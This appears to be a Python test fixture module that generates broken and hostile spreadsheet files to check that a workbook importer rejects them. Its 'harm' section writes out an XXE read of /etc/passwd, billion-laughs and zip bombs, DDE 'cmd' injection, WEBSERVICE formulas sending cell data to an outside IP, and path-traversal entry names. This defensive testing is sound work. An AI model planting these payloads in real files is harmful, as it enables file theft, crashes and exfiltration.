"""Files that were never a workbook of ours, or that somebody made to do harm: one function a kind, told in failures.yaml."""

from __future__ import annotations

import io
import re
import struct
import zipfile
from collections.abc import Callable
from random import Random

from msoffcrypto.format.ooxml import OOXMLFile

from tests.returns.packed import compound, packed, parts, sheet, workbook

Kind = Callable[[bytes], bytes]
KINDS: dict[str, Kind] = {}
_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
TASKS, RECORDS = "xl/worksheets/sheet2.xml", "xl/worksheets/sheet4.xml"


def kind(function: Kind) -> Kind:
    KINDS[function.__name__] = function
    return function


def members(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def with_members(data: bytes, more: dict[str, bytes]) -> bytes:
    return packed(members(data) | more)


def ole(content: bytes) -> bytes:
    return _OLE + b"\0" * 504 + content


# other formats


@kind
def empty(good: bytes) -> bytes:
    return b""


@kind
def zeros(good: bytes) -> bytes:
    return b"\0" * 4096


@kind
def half_a_download(good: bytes) -> bytes:
    return good[: len(good) // 2]


@kind
def web_page(good: bytes) -> bytes:
    return "<html><head><meta charset=gb2312></head><table><tr><td>任务</td><td>45%</td></tr></table></html>".encode("gb18030")


@kind
def spreadsheet_of_2003(good: bytes) -> bytes:
    return b'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>'


@kind
def comma_text(good: bytes) -> bytes:
    return "任务名称,权重\n修路,10\n".encode("gb18030")


@kind
def wide_text(good: bytes) -> bytes:
    return "任务名称\t权重\n修路\t10\n".encode("utf-16")


@kind
def pdf(good: bytes) -> bytes:
    return b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj"


@kind
def photograph(good: bytes) -> bytes:
    return b"\xff\xd8\xff\xe0\0\x10JFIF" + b"\0" * 200


@kind
def rar(good: bytes) -> bytes:
    return b"Rar!\x1a\x07\x01\0" + b"\1" * 60


@kind
def workbook_in_a_zip(good: bytes) -> bytes:
    return packed({"交回/实绩簿.xlsx": good})


@kind
def word_document(good: bytes) -> bytes:
    return packed({"[Content_Types].xml": "<Types/>", "word/document.xml": "<document/>",
                   "_rels/.rels": str(parts("")["_rels/.rels"]).replace("xl/workbook.xml", "word/document.xml")})


@kind
def old_word_document(good: bytes) -> bytes:
    return compound({"WordDocument": b"\xec\xa5" + b"\1" * 600, "1Table": b""})


@kind
def encrypted(good: bytes) -> bytes:
    locked = io.BytesIO()
    OOXMLFile(io.BytesIO(good)).encrypt("123456", locked)
    return locked.getvalue()


@kind
def torn_xls(good: bytes) -> bytes:
    return ole("Workbook".encode("utf-16-le") + b"\1" * 600)


@kind
def torn_ods(good: bytes) -> bytes:
    return packed({"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "content.xml": "<office/>"})


@kind
def text_document(good: bytes) -> bytes:
    return packed({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<office/>"})


@kind
def workbook_of_somebody_else(good: bytes) -> bytes:
    return workbook('<row r="1"><c r="A1" t="inlineStr"><is><t>任务名称</t></is></c></row>')


@kind
def scrambled(good: bytes) -> bytes:
    return Random(1).randbytes(len(good))


@kind
def scrambled_with_a_header(good: bytes) -> bytes:
    return b"b\x14#e\0\0E-SafeNet   LOCK\0" + b"\0" * 500 + Random(1).randbytes(900)


@kind
def parts_in_gb18030(good: bytes) -> bytes:
    def in_chinese(part: bytes) -> bytes:
        return b'<?xml version="1.0" encoding="GB18030"?>' + _bare(part).decode().encode("gb18030")

    found = members(good)
    return with_members(good, {name: in_chinese(found[name]) for name in (TASKS, "xl/sharedStrings.xml", "xl/workbook.xml")})


@kind
def dtd_in_gb18030(good: bytes) -> bytes:
    part = b'<?xml version="1.0" encoding="GB18030"?><!DOCTYPE worksheet>' + _bare(members(good)[TASKS]).decode().encode("gb18030")
    return with_members(good, {TASKS: part})


def rewritten(good: bytes, cells: dict[str, str], after: str = "") -> dict[str, bytes]:
    """The tasks' sheet with cells (`{s}` is the style) written anew, and merges added."""
    part = members(good)[TASKS].decode()
    for ref, body in cells.items():
        told = re.search(rf'<c r="{ref}"([^>]*?)(/>|>.*?</c>)', part, re.S)
        style = re.search(r' s="\d+"', told[1])
        part = part[: told.start()] + body.replace("{s}", f'r="{ref}"{style[0] if style else ""}') + part[told.end():]
    return {TASKS: re.sub(r"<mergeCells[^>]*>", rf"\g<0>{after}", part, count=1).encode()}


@kind
def figure_under_a_merge(good: bytes) -> bytes:
    return with_members(good, rewritten(good, {}, '<mergeCell ref="G6:G7"/>'))


@kind
def blank_over_an_entry(good: bytes) -> bytes:
    return with_members(good, rewritten(good, {"I6": "<c {s}/>", "I7": '<c {s} t="str"><v>没人看见</v></c>'}, '<mergeCell ref="I6:I7"/>'))


@kind
def date_by_a_formula(good: bytes) -> bytes:
    return with_members(good, rewritten(good, {"H6": "<c {s}><f>DATE(2026,3,5)</f><v>46086</v></c>", "H7": "<c><f>H6</f><v>46086</v></c>".replace(
        "<c>", '<c r="H7">')}))


@kind
def picture_in_a_cell_by_wps(good: bytes) -> bytes:
    cells = {"I6": '<c {s} t="str"><f>_xlfn.DISPIMG("ID_01",1)</f><v>=DISPIMG("ID_01",1)</v></c>',
             "I7": '<c {s} t="str"><v>=DISPIMG("ID_02",1)</v></c>'}
    return with_members(good, rewritten(good, cells) | {"xl/cellimages.xml": b"<a/>", "xl/media/image1.png": b"\x89PNG"})


@kind
def picture_in_a_cell_by_excel(good: bytes) -> bytes:
    """I6 and the required D7 hold pictures; I8 an error of the same rich kind."""
    cells = {"I6": '<c {s} t="e" vm="1"><v>#VALUE!</v></c>', "D7": '<c {s} t="e" vm="1"><v>#VALUE!</v></c>',
             "I8": '<c {s} t="e" vm="2"><v>#VALUE!</v></c>'}
    rich = "http://schemas.microsoft.com/office/2017/06/relationships"
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    rels = members(good)["xl/_rels/workbook.xml.rels"].decode().replace("</Relationships>", "".join(
        f'<Relationship Id="rIdP{n}" Type="{kind}" Target="{target}"/>' for n, (kind, target) in enumerate((
            (f"{office}/sheetMetadata", "metadata.xml"), (f"{rich}/rdRichValue", "richData/rdrichvalue.xml"),
            (f"{rich}/rdRichValueStructure", "richData/rdrichvaluestructure.xml")))) + "</Relationships>")
    bk = "".join(f'<bk><extLst><ext><xlrd:rvb i="{n}"/></ext></extLst></bk>' for n in (0, 1))
    return with_members(good, rewritten(good, cells) | {
        "xl/_rels/workbook.xml.rels": rels.encode(),
        "xl/metadata.xml": ('<metadata xmlns:xlrd="r"><metadataTypes count="1"><metadataType name="XLRICHVALUE"/></metadataTypes>'
                            f'<futureMetadata name="XLRICHVALUE" count="2">{bk}</futureMetadata>'
                            '<valueMetadata count="2"><bk><rc t="1" v="0"/></bk><bk><rc t="1" v="1"/></bk></valueMetadata></metadata>').encode(),
        "xl/richData/rdrichvalue.xml": b'<rvData><rv s="0"><v>0</v><v>5</v></rv><rv s="1"><v>8</v></rv></rvData>',
        "xl/richData/rdrichvaluestructure.xml": b'<rvStructures><s t="_localImage"><k n="a"/></s><s t="_error"><k n="b"/></s></rvStructures>',
        "xl/media/image1.png": b"\x89PNG"})


# harm


@kind
def killer(good: bytes) -> bytes:
    """1.4 KB: the two far corners. A reader that allocates the rectangle between them aborts the process."""
    return workbook('<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>2</v></c></row>')


@kind
def killer_inside_a_return(good: bytes) -> bytes:
    corner = b'<row r="1048576"><c r="XFD1048576"><v>2</v></c></row></sheetData>'
    return with_members(good, {TASKS: members(good)[TASKS].replace(b"</sheetData>", corner)})


@kind
def zip_bomb(good: bytes) -> bytes:
    return with_members(good, {f"xl/media/image{n}.png": b"\0" * (7 * 2**20) for n in range(32)})


@kind
def one_part_that_inflates(good: bytes) -> bytes:
    return with_members(good, {"xl/media/image1.png": b"\0" * (30 * 2**20)})


@kind
def a_million_styled_rows(good: bytes) -> bytes:
    """What a program writes after whole empty rows were coloured."""
    rows = b"".join(b'<row r="%d"><c r="A%d" s="1"/><c r="B%d" s="1"/></row>' % (n, n, n) for n in range(1000, 1_048_577))
    return with_members(good, {TASKS: members(good)[TASKS].replace(b"</sheetData>", rows + b"</sheetData>")})


@kind
def weight_filled_down_to_the_last_row(good: bytes) -> bytes:
    rows = b"".join(b'<row r="%d"><c r="C%d"><v>10</v></c></row>' % (n, n) for n in range(1000, 1_048_577))
    return with_members(good, {TASKS: members(good)[TASKS].replace(b"</sheetData>", rows + b"</sheetData>")})


@kind
def seven_hundred_rows_below_the_table(good: bytes) -> bytes:
    rows = b"".join(b'<row r="%d"><c r="C%d" t="inlineStr"><is><t>x</t></is></c></row>' % (n, n) for n in range(1000, 1700))
    return with_members(good, {TASKS: members(good)[TASKS].replace(b"</sheetData>", rows + b"</sheetData>")})


@kind
def many_parts(good: bytes) -> bytes:
    return with_members(good, {f"xl/x{n}.xml": b"" for n in range(2001)})


@kind
def dtd(good: bytes) -> bytes:
    return with_members(good, {TASKS: b"<!DOCTYPE worksheet>" + _bare(members(good)[TASKS])})


@kind
def entity(good: bytes) -> bytes:
    """The file of passwords, asked for by an external entity."""
    declared = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    part = re.sub(rb"<t([^>]*)>[^<]*</t>", rb"<t\1>&e;</t>", _bare(members(good)["xl/sharedStrings.xml"]), count=1)
    return with_members(good, {"xl/sharedStrings.xml": declared + part})


@kind
def laughs(good: bytes) -> bytes:
    levels = "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefghi", "bcdefghij", strict=True))
    return with_members(good, {TASKS: f'<!DOCTYPE x [<!ENTITY a "haha">{levels}]>'.encode() + _bare(members(good)[TASKS])})


def _bare(part: bytes) -> bytes:
    return re.sub(rb"^<\?xml[^>]*\?>\s*", b"", part)


@kind
def macros(good: bytes) -> bytes:
    return with_members(good, {"xl/vbaProject.bin": _OLE + b"Sub Auto_Open()"})


@kind
def macros_of_1992(good: bytes) -> bytes:
    return with_members(good, {"xl/macrosheets/sheet1.xml": b"<macrosheet/>"})


@kind
def links_to_other_files(good: bytes) -> bytes:
    return with_members(good, {"xl/externalLinks/externalLink1.xml": b"<externalLink/>", "xl/connections.xml": b"<connections/>"})


@kind
def embedded_object(good: bytes) -> bytes:
    return with_members(good, {"xl/embeddings/oleObject1.bin": _OLE})


@kind
def sheet_that_is_another_sheet(good: bytes) -> bytes:
    """Two sheets of the workbook made of one part."""
    part = members(good)["xl/_rels/workbook.xml.rels"].replace(b"worksheets/sheet3.xml", b"worksheets/sheet2.xml")
    return with_members(good, {"xl/_rels/workbook.xml.rels": part})


# the same return, packed or written otherwise


def repacked(good: bytes, method: int = zipfile.ZIP_DEFLATED, *, large: bool = False) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", method) as archive:
        for name, content in members(good).items():
            with archive.open(zipfile.ZipInfo(name), "w", force_zip64=large) as member:
                member.write(content)
    return stream.getvalue()


def changed(good: bytes, name: str, change: Callable[[bytes], bytes]) -> bytes:
    return with_members(good, {name: change(members(good)[name])})


def without(good: bytes, word: str) -> bytes:
    return packed({name: content for name, content in members(good).items() if word not in name})


class Stream(io.RawIOBase):
    """A file that can only be written on and on."""

    def __init__(self) -> None:
        self.written = bytearray()

    def writable(self) -> bool:
        return True

    def write(self, data) -> int:
        self.written += data
        return len(data)


@kind
def packed_without_compression(good: bytes) -> bytes:
    return repacked(good, zipfile.ZIP_STORED)


@kind
def packed_as_large(good: bytes) -> bytes:
    return repacked(good, large=True)


@kind
def packed_as_a_stream(good: bytes) -> bytes:
    stream = Stream()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members(good).items():
            archive.writestr(name, content)
    return bytes(stream.written)


@kind
def padded(good: bytes) -> bytes:
    return good + b"\0" * 500


@kind
def padded_far(good: bytes) -> bytes:
    return good + b"\0" * 100_000


@kind
def parts_in_utf16(good: bytes) -> bytes:
    return changed(good, TASKS, lambda part: part.decode().replace("UTF-8", "UTF-16").encode("utf-16"))


@kind
def unknown_encoding(good: bytes) -> bytes:
    return changed(good, TASKS, lambda part: part.replace(b"UTF-8", b"nonsense-8"))


@kind
def no_styles(good: bytes) -> bytes:
    return without(good, "styles.xml")


@kind
def no_properties(good: bytes) -> bytes:
    return without(good, "docProps/")


@kind
def strings_gone(good: bytes) -> bytes:
    return without(good, "sharedStrings")


@kind
def string_that_is_not_there(good: bytes) -> bytes:
    return changed(good, TASKS, lambda part: re.sub(rb' t="s"([^>]*)><v>\d+</v>', rb' t="s"\1><v>99999999</v>', part, count=1))


@kind
def dimension_of_the_whole_sheet(good: bytes) -> bytes:
    return changed(good, TASKS, lambda part: re.sub(rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:XFD1048576"/>', part))


def cell_written(good: bytes, address: str, cell: bytes) -> bytes:
    pattern = rb'<c r="%s"[^>]*?(/>|>.*?</c>)' % address.encode()
    return changed(good, TASKS, lambda part: re.sub(pattern, lambda _: cell, part, count=1))


@kind
def rich_text_with_a_reading(good: bytes) -> bytes:
    runs = '<r><rPr><b/></rPr><t>修路</t></r><r><t>架桥</t></r><rPh sb="0" eb="2"><t>xiulu</t></rPh>'
    return cell_written(good, "A6", f'<c r="A6" t="inlineStr"><is>{runs}</is></c>'.encode())


@kind
def workbooks_in_zips_in_zips(good: bytes) -> bytes:
    for n in range(5):
        good = packed({f"{n}.xlsx": good})
    return good


@kind
def binary_workbook(good: bytes) -> bytes:
    return packed({"[Content_Types].xml": "<Types/>", "xl/workbook.bin": b"\x83\x01\x00",
                   "_rels/.rels": str(parts("")["_rels/.rels"]).replace("xl/workbook.xml", "xl/workbook.bin")})


@kind
def picture_from_the_web(good: bytes) -> bytes:
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"
    told = f'<Relationships><Relationship Id="rId1" Type="{kind}" Target="http://198.51.100.7/x.png" TargetMode="External"/></Relationships>'
    return with_members(good, {"xl/drawings/_rels/drawing9.xml.rels": told.encode()})


@kind
def pictures(good: bytes) -> bytes:
    return with_members(good, {"xl/media/image1.png": b"\x89PNG", "xl/media/image2.jpeg": b"\xff\xd8\xff"})


@kind
def web_addin(good: bytes) -> bytes:
    return with_members(good, {"xl/webextensions/webextension1.xml": b"<webextension/>"})


@kind
def ribbon(good: bytes) -> bytes:
    return with_members(good, {"customUI/customUI14.xml": b"<customUI/>"})


@kind
def names_that_lead_elsewhere(good: bytes) -> bytes:
    return with_members(good, {"../../../../tmp/evil": b"x", "/etc/evil": b"x", "C:\\evil": b"x"})


@kind
def parts_over_one_another(good: bytes) -> bytes:
    """A directory of many entries that all point to the same packed bytes."""
    one = packed({"a.xml": b"\0" * (10 * 2**20)}, level=9)
    at = one.index(b"PK\1\2")
    end = one.index(b"PK\5\6")
    entries = b"".join(one[at:end].replace(b"a.xml", b"%05d" % n) for n in range(1500))
    return one[:at] + entries + b"PK\5\6\0\0\0\0" + struct.pack("<HHIIH", 1500, 1500, len(entries), at, 0)


@kind
def formula_longer_than_any(good: bytes) -> bytes:
    return cell_written(good, "C6", b'<c r="C6"><f>' + b"a|" * 100_000 + b"</f><v>5</v></c>")


@kind
def formula_dragged_down(good: bytes) -> bytes:
    """As Excel writes it: the text once, and a number in each cell that shares it; and one formula for two cells."""
    good = cell_written(good, "C6", b'<c r="C6"><f t="shared" ref="C6:C7" si="3">[1]Sheet1!A1</f><v>5</v></c>')
    good = cell_written(good, "C7", b'<c r="C7"><f t="shared" si="3"/><v>6</v></c>')
    good = cell_written(good, "C8", b'<c r="C8"><f t="array" ref="C8:C9">[1]Sheet1!B1:B2</f><v>7</v></c>')
    return cell_written(good, "C9", b'<c r="C9"><v>8</v></c>')


@kind
def row_of_no_height(good: bytes) -> bytes:
    return changed(good, TASKS, lambda part: re.sub(rb'<row r="7"[^>]*?( ht="\d+")?>', b'<row r="7" ht="0" customHeight="1">', part, count=1))


COVER, RELATIONSHIPS = "xl/worksheets/sheet1.xml", "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def related(good: bytes, kind: str, target: str, content: bytes = b"", *, mode: str = "") -> bytes:
    """The workbook with one more part, which the sheet of the tasks has a relationship to."""
    told = f'<Relationships><Relationship Id="rId99" Type="{RELATIONSHIPS}/{kind}" Target="{target}"{mode}/></Relationships>'
    more = {} if mode else {target.replace("../", "xl/"): content}
    return with_members(good, {"xl/worksheets/_rels/sheet2.xml.rels": told.encode()} | more)


def behind_the_cells(good: bytes, part: str, markup: str) -> bytes:
    return changed(good, part, lambda p: p.replace(b"</sheetData>", b"</sheetData>" + markup.encode(), 1))


def first_formula(good: bytes, part: str, formula: str) -> bytes:
    return changed(good, part, lambda p: re.sub(rb"<f>[^<]*</f>", f"<f>{formula}</f>".encode(), p, count=1))


def named(good: bytes, **names: str) -> bytes:
    told = "".join(f'<definedName name="{name}">{text}</definedName>' for name, text in names.items()).encode()
    return changed(good, "xl/workbook.xml", lambda p: p.replace(b"</definedNames>", told + b"</definedNames>"))


@kind
def text_box(good: bytes) -> bytes:
    shape = '<xdr:sp><xdr:txBody><a:p><a:r><a:t>请按此</a:t></a:r></a:p><a:p><a:r><a:t>更正</a:t></a:r></a:p></xdr:txBody></xdr:sp>'
    drawing = f'<xdr:wsDr xmlns:xdr="x" xmlns:a="a"><xdr:twoCellAnchor>{shape}</xdr:twoCellAnchor></xdr:wsDr>'
    return related(good, "drawing", "../drawings/drawing1.xml", drawing.encode())


@kind
def button_with_a_macro(good: bytes) -> bytes:
    drawing = '<xdr:wsDr xmlns:xdr="x"><xdr:oneCellAnchor><xdr:sp macro="[0]!Send"/></xdr:oneCellAnchor></xdr:wsDr>'
    return related(good, "drawing", "../drawings/drawing1.xml", drawing.encode())


@kind
def old_text_box(good: bytes) -> bytes:
    note = '<v:shape><v:textbox>批注</v:textbox><x:ClientData ObjectType="Note"/></v:shape>'
    drawing = f'<xml>{note}<v:rect><v:textbox><font>另有<br>说明</font></v:textbox><x:ClientData ObjectType="Rect"></x:ClientData></v:rect></xml>'
    return related(good, "vmlDrawing", "../drawings/vmlDrawing1.vml", drawing.encode())


@kind
def comment_with_an_answer(good: bytes) -> bytes:
    told = ''.join(f'<threadedComment ref="A6"><text>{text}</text></threadedComment>' for text in ("这项报多了", "已核"))
    return related(good, "threadedComment", "../threadedComments/threadedComment1.xml", f"<ThreadedComments>{told}</ThreadedComments>".encode())


@kind
def words_in_the_page_head(good: bytes) -> bytes:
    told = '<headerFooter><oddHeader>&amp;L&amp;"宋体,加粗"&amp;14本表以口头报告为准&amp;R&amp;D</oddHeader>'
    told += '<evenFooter>第 &amp;P 页，共 &amp;N 页</evenFooter>'
    return changed(good, TASKS, lambda p: p.replace(b"<headerFooter>", told.encode(), 1))


@kind
def web_in_a_live_cell(good: bytes) -> bytes:
    return first_formula(good, TASKS, 'WEBSERVICE("http://198.51.100.7/?"&amp;A6)')


@kind
def program_on_the_cover(good: bytes) -> bytes:
    return first_formula(good, COVER, "cmd|'/c calc'!A0")


@kind
def web_in_a_conditional_format(good: bytes) -> bytes:
    rule = '<cfRule type="expression" priority="99"><formula>LEN(WEBSERVICE("http://198.51.100.7"))&gt;0</formula></cfRule>'
    return behind_the_cells(good, TASKS, f'<conditionalFormatting sqref="A6">{rule}</conditionalFormatting>')


@kind
def rule_of_a_later_excel_that_hides_entries(good: bytes) -> bytes:
    later = "http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"
    rule = "<x14:cfRule type='expression'><xm:f>TRUE</xm:f><x14:dxf><numFmt numFmtId='200' formatCode=';;;'/></x14:dxf></x14:cfRule>"
    main = "http://schemas.microsoft.com/office/excel/2006/main"
    rules = f"<x14:conditionalFormatting xmlns:xm='{main}'>{rule}<xm:sqref>$C$6</xm:sqref></x14:conditionalFormatting>"
    rules = f"<x14:conditionalFormattings>{rules}</x14:conditionalFormattings>"
    return behind_the_cells(good, TASKS, f"<extLst xmlns:x14='{later}'><ext>{rules}</ext></extLst>")


@kind
def other_figures_in_a_scenario(good: bytes) -> bytes:
    scenario = '<scenario name="实际" count="1" comment="以此为准"><inputCells r="C6" val="99"/></scenario>'
    return behind_the_cells(good, TASKS, f'<scenarios current="0">{scenario}</scenarios>')


@kind
def words_that_describe_a_shape(good: bytes) -> bytes:
    shape = '<xdr:sp textlink="[1]Sheet1!A1"><xdr:nvSpPr><xdr:cNvPr id="2" name="x" descr="以此为准"/></xdr:nvSpPr></xdr:sp>'
    drawing = f'<xdr:wsDr xmlns:xdr="x"><xdr:twoCellAnchor>{shape}</xdr:twoCellAnchor></xdr:wsDr>'
    return related(good, "drawing", "../drawings/drawing1.xml", drawing.encode())


@kind
def function_of_the_web_by_its_name_alone(good: bytes) -> bytes:
    formula = rb"\1<f>SUM(_xlfn.MAP(A1:A2,_xlfn.WEBSERVICE))</f>"
    return changed(good, TASKS, lambda part: re.sub(rb'(<c r="J6"[^>]*>)<f>[^<]*</f>', formula, part, count=1))


@kind
def cells_of_a_pivot_table_from_elsewhere(good: bytes) -> bytes:
    part = b'<pivotCacheDefinition xmlns="x" refreshOnLoad="1"><cacheSource type="external" connectionId="1"/></pivotCacheDefinition>'
    return with_members(good, {"xl/pivotCache/pivotCacheDefinition1.xml": part})


@kind
def program_in_a_validation(good: bytes) -> bytes:
    later = "http://schemas.microsoft.com/office/excel/2006/main"
    rule = f"<x14:dataValidation><x14:formula1><xm:f xmlns:xm='{later}'>cmd|'/c calc'!A0</xm:f></x14:formula1></x14:dataValidation>"
    return behind_the_cells(good, TASKS, f"<extLst xmlns:x14='x'><ext>{rule}</ext></extLst>")


@kind
def name_that_starts_a_macro(good: bytes) -> bytes:
    return named(good, **{"AUTO_open": "Sheet1!$A$1", "_xlnm.Auto_Close": "Sheet1!$A$1"})


@kind
def name_that_asks_a_program(good: bytes) -> bytes:
    return named(good, rate="cmd|'/c calc'!A0")


@kind
def names_of_another_workbook(good: bytes) -> bytes:
    return named(good, rate="[1]Sheet1!$A$1", share="'\\\\198.51.100.7\\d\\a.xlsx'!x")


@kind
def name_of_ours_turned_outside(good: bytes) -> bytes:
    """A name that hints ask another sheet by; a formula that said the same itself would be refused."""
    book = members(good)["xl/workbook.xml"]
    name = next(n for n in re.findall(rb'<definedName name="(_at\.\d+|_chosen\.\w+|_rows\.\w+)"', book))
    there = re.compile(rb'(<definedName name="' + re.escape(name) + rb'">)[^<]*')
    return changed(good, "xl/workbook.xml", lambda part: there.sub(rb"\1[1]Sheet1!$A$1", part))


@kind
def entry_by_a_name_that_leads_outside(good: bytes) -> bytes:
    """By two names, of which the second leads there."""
    return cell_written(named(good, rate="Share*1", share="[1]Sheet1!$A$1"), "C6", b'<c r="C6"><f>RATE+1</f><v>5</v></c>')


@kind
def entry_from_another_machine(good: bytes) -> bytes:
    return cell_written(good, "C6", rb"<c r='C6'><f>'\\198.51.100.7\d\a.xlsx'!rate</f><v>5</v></c>".replace(b"r='C6'", b'r="C6"'))


@kind
def hyperlink_to_another_machine(good: bytes) -> bytes:
    return related(good, "hyperlink", r"\\198.51.100.7\d\a.xlsx", mode=' TargetMode="External"')


@kind
def hyperlink_to_the_web(good: bytes) -> bytes:
    return related(good, "hyperlink", "https://www.gov.cn/", mode=' TargetMode="External"')


@kind
def link_to_a_program(good: bytes) -> bytes:
    return with_members(good, {"xl/externalLinks/externalLink1.xml": b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'})


@kind
def macros_by_another_name(good: bytes) -> bytes:
    return related(good, "vbaProject", "../theme/theme9.bin", _OLE)


@kind
def form_control(good: bytes) -> bytes:
    return with_members(good, {"xl/ctrlProps/ctrlProp1.xml": b"<formControlPr/>"})


@kind
def query_to_the_web(good: bytes) -> bytes:
    return with_members(good, {"customXml/item1.xml": b"<DataMashup xmlns='http://schemas.microsoft.com/DataMashup'>AAA</DataMashup>"})


@kind
def chart(good: bytes) -> bytes:
    return with_members(good, {"xl/charts/chart1.xml": b"<chartSpace/>", "xl/charts/style1.xml": b"<style/>"})


@kind
def row_of_hardly_any_height(good: bytes) -> bytes:
    return changed(good, TASKS, lambda part: re.sub(rb'<row r="7"[^>]*?( ht="\d+")?>', b'<row r="7" ht="0.05" customHeight="1">', part, count=1))


@kind
def column_of_hardly_any_width(good: bytes) -> bytes:
    return changed(good, TASKS, lambda part: re.sub(rb'<col min="1" max="1" width="[^"]*"', b'<col min="1" max="1" width="0.05"', part, count=1))


@kind
def cell_twice(good: bytes) -> bytes:
    return changed(good, TASKS, lambda part: re.sub(rb'(<c r="C6"[^>]*>.*?</c>)', rb'\1<c r="C6"><v>99</v></c>', part, count=1))


@kind
def days_of_1904(good: bytes) -> bytes:
    """Saved with the days of old Macintoshes, which begin 1462 days later."""
    good = changed(good, "xl/workbook.xml", lambda part: part.replace(b"<workbookPr ", b'<workbookPr date1904="1" '))
    for part, column in ((TASKS, b"H"), (RECORDS, b"B")):
        day = re.compile(rb'(<c r="%s\d+"(?: s="\d+")?><v>)(\d+)' % column)
        good = changed(good, part, lambda p, day=day: day.sub(lambda m: m[1] + b"%d" % (int(m[2]) - 1462), p))
    return good


@kind
def tag_of_sixty_megabytes(good: bytes) -> bytes:
    return changed(good, TASKS, lambda part: part.replace(b"<sheetData>", b"<sheetData><" + b"y" * (60 * 2**20) + b"/>", 1))


@kind
def part_twice(good: bytes) -> bytes:
    stream = io.BytesIO(good)
    with zipfile.ZipFile(stream, "a") as archive:
        archive.writestr("XL/Worksheets/sheet2.xml", sheet(""))
    return stream.getvalue()


@kind
def text_longer_than_a_cell(good: bytes) -> bytes:
    return cell_written(good, "I6", b'<c r="I6" t="str"><v>' + "长".encode() * 40_000 + b"</v></c>")
